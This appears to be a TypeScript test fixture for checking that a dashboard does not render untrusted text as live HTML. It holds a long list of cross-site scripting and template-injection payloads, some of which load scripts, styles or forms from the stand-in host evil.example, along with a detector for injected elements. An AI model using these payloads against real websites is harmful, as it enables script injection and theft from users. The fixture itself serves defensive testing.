/**
 * Texts that do something where they are taken for more than text. `pwn` says so when it is called, and whatever
 * is asked of `evil.example` is seen.
 */

/** Those that HTML itself would act on, in a text, an attribute, a comment, a script, a style or a link. */
export const MARKUP: readonly string[] = [
  "<script>pwn()</script>",
  '"><script>pwn()</script>',
  "'><script>pwn()</script>",
  "</script><script>pwn()</script>",
  "</title><script>pwn()</script>",
  "</textarea><script>pwn()</script>",
  "</style><script>pwn()</script>",
  "</pre></code><script>pwn()</script>",
  "--><script>pwn()</script>",
  "]]><script>pwn()</script>",
  "<ScRiPt/x>pwn()</sCrIpT >",
  "<script src=//evil.example/x.js></script>",
  '<script type=module>import("//evil.example/x.js")</script>',
  "<img src=x onerror=pwn()>",
  "<img src=//evil.example/x.png>",
  "<image src=x onerror=pwn()",
  "<svg onload=pwn()>",
  "<svg><script>pwn()</script></svg>",
  '<svg><a xlink:href="javascript:pwn()"><text y=9>x</text></a></svg>',
  "<svg><animate onbegin=pwn() attributeName=x dur=1s>",
  '<math><maction xlink:href="javascript:pwn()">x</maction></math>',
  "<math><mtext><table><mglyph><style><img src=x onerror=pwn()>",
  '<noscript><p title="</noscript><img src=x onerror=pwn()>">',
  '<iframe srcdoc="<script>parent.pwn()</script>">',
  "<iframe src=javascript:parent.pwn()>",
  "<object data=javascript:pwn()>",
  "<embed src=//evil.example/x.swf>",
  "<base href=//evil.example/>",
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<style>*{background:url(//evil.example/x)}</style>",
  "<form action=//evil.example/><button autofocus>Sign in",
  "<input autofocus onfocus=pwn()>",
  "<details open ontoggle=pwn()>",
  "<body onload=pwn()>",
  "<xss id=x tabindex=1 onfocus=pwn() autofocus>",
  '" autofocus onfocus="pwn()',
  "' autofocus onfocus='pwn()",
  "x autofocus onfocus=pwn()",
  "javascript:pwn()",
  "jAvAsCrIpT&colon;pwn()",
  "java&#9;script:pwn()//",
  "data:text/html,<script>pwn()</script>",
  '<a href=" &#14; javascript:pwn()" autofocus>x</a>',
  "//evil.example/",
  "<p hx-get=//evil.example/ hx-trigger=load>",
  "<p hx-on::load=pwn() hx-trigger=load>",
  "\u202Egnp.<img src=x onerror=pwn()>",
];

/** Those that need somebody to decode, translate, filter or evaluate them before. */
export const ENCODED: readonly string[] = [
  "red;background:url(//evil.example/x)",
  "<scr<script>ipt>pwn()</scr</script>ipt>",
  "&lt;script&gt;pwn()&lt;/script&gt;",
  "\\u003cscript\\u003epwn()\\u003c/script\\u003e",
  "%3Cscript%3Epwn()%3C%2Fscript%3E",
  "+ADw-script+AD4-pwn()+ADw-/script+AD4-",
  "＜script＞pwn()＜/script＞",
  '{{constructor.constructor("pwn()")()}}',
  "${pwn()}",
  "<%= pwn() %>",
  "[x](javascript:pwn()) ![x](//evil.example/x.png)",
  '";pwn();"',
];

/** All of them. */
export const PAYLOADS: readonly string[] = [...MARKUP, ...ENCODED];

/** Run in every page before its own scripts: makes it known when one of them is run. */
export const TELL_WHEN_RUN = 'globalThis.pwn = () => console.error("a payload was run");';

/** Where text may end up in a page that does not take care of it. */
const PLACES = [
  "<p>_</p>",
  '<p title="_">x</p>',
  "<p title='_'>x</p>",
  "<p title=_>x</p>",
  '<a href="_">x</a>',
  '<p style="color:_">x</p>',
  "<title>_</title>",
  "<textarea>_</textarea>",
  "<pre><code>_</code></pre>",
  "<!-- _ -->",
  "<script type=application/json>_</script>",
  "<style>_</style>",
  "<svg><title><![CDATA[_]]></title></svg>",
];

/** A function of a document in a page: every element in it that is not one the service makes. */
const STRANGE = `((document) => {
  const own = (url) => {
    try {
      return new URL(url, location.href).origin === location.origin;
    } catch {
      return false;
    }
  };
  const never = "style,iframe,object,embed,base,math,animate,image,xss,noembed,applet";
  const isScript = /^(on|hx-on|data-hx-on|srcdoc$|style$)/i;
  const isUrl = /^(href|src|action|formaction|xlink:href|data|(data-)?hx-(get|post|put|delete))$/i;
  const strange = (element) =>
    element.matches(never) ||
    (element.localName === "script" && !/^\\/dashboard\\/assets\\//.test(element.getAttribute("src"))) ||
    (element.localName === "meta" && /url/i.test(element.content)) ||
    [...element.attributes].some(({ name, value }) =>
      isScript.test(name) || (isUrl.test(name) && !own(value))
    );
  return [...document.querySelectorAll("*")].filter(strange)
    .map((element) => element.outerHTML.slice(0, 120));
})`;

/** An expression for a page: elements in it that are not of our making. */
export const STRANGE_ELEMENTS = `${STRANGE}(document)`;

/** An expression for a page: of some texts, those that are not noticed wherever they are put as they are. */
export function unnoticed(texts: readonly string[]): string {
  return `${JSON.stringify(texts)}.filter((text) =>
    ${JSON.stringify(PLACES)}.every((place) => {
      const page = new DOMParser().parseFromString(place.replace("_", () => text), "text/html");
      const plain = new DOMParser().parseFromString(place.replace("_", "x"), "text/html");
      return ${STRANGE}(page).length <= ${STRANGE}(plain).length;
    }))`;
}
